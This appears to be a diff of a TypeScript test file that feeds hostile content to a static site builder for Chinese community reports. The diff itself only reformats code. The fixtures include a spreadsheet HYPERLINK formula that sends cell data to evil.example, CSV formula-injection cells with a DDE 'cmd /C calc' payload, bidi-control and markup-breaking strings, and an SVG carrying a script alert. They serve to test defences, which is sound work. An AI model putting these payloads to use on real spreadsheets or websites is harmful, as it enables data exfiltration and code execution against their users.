@@ -13,7 +13,7 @@ import { checkWellFormedXml } from '../helpers/xml.ts';
 // The fixture as a careless editor or an attacker with commit rights might write it.
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
 const PLAIN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><rect width="1" height="1" fill="#c00"/></svg>';
-const HOSTILE_CELLS = ['@SUM(A1)', '+1+cmd|\' /C calc\'!A0', '\t=1+1', '-2+3'];
+const HOSTILE_CELLS = ['@SUM(A1)', "+1+cmd|' /C calc'!A0", '\t=1+1', '-2+3'];
 
 describe('a build of hostile content', () => {
   const state = { content: '', dist: '' };
@@ -25,8 +25,7 @@ describe('a build of hostile content', () => {
     await editFile(state.content, 'reports/shijian.md', 'title: 测试区规范化建设实践', 'title: "测试区\\u2066规范化\\uFEFF建设 <b>&amp; ]]>"');
     await editFile(state.content, 'reports/shijian.md', 'summary: 一份用于测试的报告。', 'summary: "一份\\u202D用于测试的</description>报告。"');
     await editFile(state.content, 'communities/hetang.md', 'name: 荷塘社区', `name: '${HOSTILE_NAME}'`);
-    await writeFile(path.join(state.content, 'data/jingfei.csv'),
-      ['year,amount,note', ...HOSTILE_CELLS.map((cell, i) => `${2020 + i},${i === 3 ? -1.5 : 10 + i},"${cell.replace(/"/g, '""')}"`)].join('\n'));
+    await writeFile(path.join(state.content, 'data/jingfei.csv'), ['year,amount,note', ...HOSTILE_CELLS.map((cell, i) => `${2020 + i},${i === 3 ? -1.5 : 10 + i},"${cell.replace(/"/g, '""')}"`)].join('\n'));
     await editFile(state.content, 'reports/shijian.md', /$/, '\n```chart\ntype: bar\ntitle: 各社区户数\nfrom: communities\nx: name\ny: households\n```\n');
     await writeFile(path.join(state.content, 'media/plain.svg'), PLAIN_SVG);
     await editFile(state.content, 'reports/shijian.md', '满意度稳步提升。', '满意度稳步提升。\n\n![示意图](../media/plain.svg)');
@@ -78,7 +77,10 @@ describe('a build with an active SVG', () => {
     try {
       await writeFile(path.join(content, 'media/evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
       await editFile(content, 'reports/shijian.md', '满意度稳步提升。', '满意度稳步提升。\n\n![图](../media/evil.svg)');
-      const failure = (await buildSite(content, out).then(() => undefined, (error: unknown) => error)) as { stderr?: string; stdout?: string } | undefined;
+      const failure = (await buildSite(content, out).then(
+        () => undefined,
+        (error: unknown) => error,
+      )) as { stderr?: string; stdout?: string } | undefined;
       expect(failure).toBeDefined();
       const output = `${failure?.stdout ?? ''}${failure?.stderr ?? ''}`;
       expect(output).toMatch(/reports\/shijian\.md:16: SVG 图片“..\/media\/evil.svg”含有<script> 元素/);
